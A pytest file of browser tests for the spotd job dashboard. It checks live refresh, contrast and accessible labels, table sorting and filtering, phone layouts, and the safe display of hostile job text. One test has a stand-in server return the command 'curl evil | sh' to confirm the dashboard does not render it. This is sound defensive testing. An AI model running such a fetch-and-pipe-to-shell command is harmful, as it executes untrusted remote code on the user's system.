"""The pages in a real browser: they move with the jobs, they are legible, and nothing of others
runs in them."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from spotd.api_client.client import Target
from spotd.dashboard import layout
from spotd.dashboard.api_cache import ApiCache
from spotd.dashboard.server import start_server
from spotd.domain.events import Event, Severity
from spotd.domain.states import LeaveReason, Outcome
from tests.fixtures.browser import Page, open_page
from tests.spotd.api.rig import SPOT, Rig, story
from tests.spotd.dashboard.reading import ask
from tests.spotd.dashboard.test_pages import HOSTILE, lost

# Every text with less contrast to what is behind it than 4.5, as (text, ratio). The browser says
# the colours in force, so that a style that was forgotten is seen, too.
PALE = """(() => {
  const parse = (s) => (s.match(/[\\d.]+/g) || []).map(Number);
  const part = (v) => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4;
  const light = (c) => { const f = part;
    return .2126 * f(c[0]) + .7152 * f(c[1]) + .0722 * f(c[2]) };
  const behind = (e) => { for (; e; e = e.parentElement) {
    const c = parse(getComputedStyle(e).backgroundColor);
    if (c.length && c[3] !== 0) return c } return [255, 255, 255] };
  const found = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const e = walk.currentNode.parentElement, text = walk.currentNode.data.trim();
    const title = e.namespaceURI.endsWith("svg") && e.tagName === "title";
    if (!text || title || !e.getClientRects().length) continue;
    const style = getComputedStyle(e), svg = e.namespaceURI.endsWith("svg");
    const a = light(parse(svg ? style.fill : style.color)), b = light(behind(e));
    const ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    if (ratio < 4.5) found.push([text, ratio]);
  }
  return found })()"""
# What cannot be named aloud, and headings that pass a level over.
NAMELESS = """(() => {
  const found = [];
  const wanted = "button, a, input:not([type=hidden]), select, progress, [role=region], svg";
  for (const e of document.querySelectorAll(wanted)) {
    const label = e.getAttribute("aria-label") || e.textContent.trim() || e.closest("label");
    if (!label) found.push(e.outerHTML.slice(0, 99));
  }
  let level = 0;
  for (const e of document.querySelectorAll("h1, h2, h3")) {
    if (Number(e.tagName[1]) > level + 1) found.push(e.outerHTML);
    level = Number(e.tagName[1]);
  }
  return found })()"""


@pytest.fixture
def page() -> Iterator[Page]:
    with open_page() as found:
        yield found


def phase(name: str) -> str:
    """Of a job on the first page."""
    return (
        "(() => { const a = [...document.querySelectorAll('#jobs tbody tr, #ended tbody tr')]"
        f".find((r) => r.cells[0].textContent === {name!r}); "
        "return a ? a.cells[1].textContent.trim().split(' ').at(-1) : '' })()"
    )


def test_it_moves_with_the_job_and_keeps_what_a_person_holds(
    rig: Rig, url: str, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(layout, "REFRESH_S", 0.3)
    job_id = story(rig)
    page.open(url)
    assert page.js(phase("gpt")) == "running"
    page.js("window.mine = 1; document.querySelector('#jobs tbody a').focus()")
    rig.submit("newer", 10)
    page.wait(f"{phase('newer')} === 'waiting'")
    assert page.js("document.activeElement.textContent") == "gpt", "it moved down, with its focus"
    rig.finish(job_id, 5, Outcome.SUCCEEDED, "finished at step 1790")
    page.wait(f"{phase('gpt')} === 'succeeded'")
    assert page.js("window.mine") == 1, "the page was not loaded anew"
    rig.stop()
    page.wait("document.getElementById('state').textContent.includes('spotd does not answer')")
    assert page.js(phase("gpt")) == "succeeded"
    rig.start()
    page.wait("document.getElementById('state').textContent === ''")
    # Paused, nothing moves.
    page.js("document.getElementById('pause').focus()")
    page.press(" ", 32)
    page.wait("document.getElementById('pause').getAttribute('aria-pressed') === 'true'")
    before = page.js("document.getElementById('clock').textContent")
    rig.clock.go_on(100)
    with pytest.raises(Exception, match="in vain"):
        page.wait(f"document.getElementById('clock').textContent !== {before!r}", 1.5)
    assert page.console == []


def test_who_has_the_port_afterwards_is_not_shown(
    rig: Rig, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another user of the machine, who is told the address by each request."""
    monkeypatch.setattr(layout, "REFRESH_S", 0.3)
    story(rig)
    cache = ApiCache(Target(socket=str(rig.socket)), age_factor=0.0)
    server = start_server(cache)
    page.open(server.url)
    server.stop()
    cache.close()

    class Stranger(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            text = "<body><div id=state></div><p id=clock></p><main id=main>curl evil | sh</main>"
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", urlsplit(server.url).port or 0), Stranger) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page.wait("document.getElementById('lost').textContent.includes('a stranger answers')")
        server.shutdown()
    assert page.js("document.getElementById('main').textContent.includes('evil')") is False
    assert page.js(phase("gpt")) == "running"


def test_it_is_legible_and_safe(rig: Rig, url: str, page: Page) -> None:
    job_id = lost(rig)
    evil = rig.submit(HOSTILE, ago_s=4000)
    node = rig.launch(evil, SPOT, ago_s=3600)
    rig.train(node, ago_s=3500, until_s=100, first=0, last=10)
    rig.log(node, "rank0", 0, HOSTILE.encode() + b"\n")
    rig.leave(node, 80, LeaveReason.LOST, HOSTILE)
    rig.store.events.add(evil, Event("note", HOSTILE, severity=Severity.ERROR), rig.ago(60))
    rig.hold("i-0a1", 7230, HOSTILE)
    for dark in (False, True):
        nodes = (f"machine/{job_id}-g1-r0", f"machine/{evil}-g1-r0", "provider/aws")
        for path in ("", "jobs", "prices", "events", f"job/{job_id}", f"job/{evil}", *nodes):
            page.look(1280, 900, dark=dark)
            page.open(url + path)
            assert page.js(PALE) == [], (path, dark)
            assert page.js(NAMELESS) == [], path
            page.look(360, 800, dark=dark)
            wide = "document.documentElement.scrollWidth"
            assert page.js(wide) <= 360, "tables scroll by themselves, and the page does not"
    assert page.js("document.querySelectorAll('img').length") == 0
    assert page.console == [], "no script failed, and the policy had nothing to refuse"
    origin = "{0.scheme}://{0.netloc}/".format(urlsplit(url))
    assert [one for one in page.asked if not one.startswith((origin, "about:"))] == []


# The first cells of the rows of a table that are seen.
SEEN = """((caption) => [...document.querySelectorAll("table")]
  .find((t) => t.caption.textContent === caption).tBodies[0].rows)"""


def seen(page: Page, caption: str) -> list[str]:
    rows = f"[...{SEEN}({caption!r})].filter((r) => !r.hidden).map((r) => r.cells[0].textContent)"
    return list(page.js(rows))


def test_tables_sort_and_filter_and_stay_so(
    rig: Rig, url: str, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(layout, "REFRESH_S", 0.3)
    lost(rig), story(rig)
    rig.submit("aardvark")
    page.open(url + "jobs")
    assert seen(page, "Jobs") == ["aardvark", "lost", "gpt"]
    click = (
        "[...document.querySelectorAll('button.sort')].find((b) => b.textContent === {!r}).click()"
    )
    page.js(click.format("Cost"))
    assert seen(page, "Jobs") == ["aardvark", "lost", "gpt"]
    page.js(click.format("Cost"))
    assert seen(page, "Jobs") == ["gpt", "lost", "aardvark"]
    heading = "document.querySelector('th[aria-sort]')"
    assert page.js(f"{heading}.getAttribute('aria-sort')") == "descending"
    rig.submit("newest")
    page.wait(f"{SEEN}('Jobs').length === 4")
    assert seen(page, "Jobs")[:2] == ["gpt", "lost"], "the order holds over a refresh"
    page.js("""(() => { const box = document.querySelector('.find'); box.value = 'running toy';
      box.dispatchEvent(new Event('input', { bubbles: true })) })()""")
    assert seen(page, "Jobs") == ["gpt", "lost"]
    before = page.js("document.getElementById('clock').textContent")
    rig.clock.go_on(100)
    page.wait(f"document.getElementById('clock').textContent !== {before!r}")
    assert seen(page, "Jobs") == ["gpt", "lost"], "so does the filter"
    assert page.js("document.querySelector('.find').value") == "running toy"
    assert page.console == []


def test_a_filter_is_one_line_above_its_table(rig: Rig, url: str, page: Page) -> None:
    """Also where tables stand side by side."""
    lost(rig), story(rig)
    job_id = next(job.id for job in rig.store.jobs.rows() if job.name == "gpt")
    page.look(1440, 1000)
    for path in ("", f"job/{job_id}"):
        page.open(url + path)
        assert page.js("document.querySelectorAll('.side .find').length") > 0, path
        boxes = "[...document.querySelectorAll('.find')].filter((box) => !box.hidden)"
        assert page.js(f"{boxes}.length") > 0
        above = """.every((box) => {
            const mine = box.getBoundingClientRect();
            const table = box.nextElementSibling.getBoundingClientRect();
            return mine.height < 50 && mine.left === table.left && mine.bottom <= table.top })"""
        assert page.js(boxes + above), path


@pytest.mark.parametrize("jobs", [1, 30, 2000])
def test_any_number_of_jobs_fits(rig: Rig, url: str, page: Page, jobs: int) -> None:
    """Bounded pages, without horizontal overrun, in light and dark, wide and on a phone."""
    story(rig)
    for number in range(jobs - 1):
        rig.submit(f"sweep-{number:04}-with-a-name-that-is-rather-long-for-a-phone", ago_s=9000)
    for path in ("", "jobs"):
        assert len(ask(url, path).text) < 400_000
        for width in (1440, 390):
            for dark in (False, True):
                page.look(width, 900, dark=dark)
                page.open(url + path)
                assert page.js("document.documentElement.scrollWidth") <= width, (path, width)
                if width == 390 and path == "jobs":
                    box = "document.querySelector('#jobs .scroll')"
                    assert page.js(f"{box}.scrollWidth <= {box}.clientWidth"), "nor in the table"
                    heads = page.js(
                        "[...document.querySelectorAll('#jobs thead th')]"
                        ".filter((h) => h.offsetParent).map((h) => h.textContent)"
                    )
                    assert heads == ["Job", "Phase", "Where", "Cost"]
    assert page.console == []
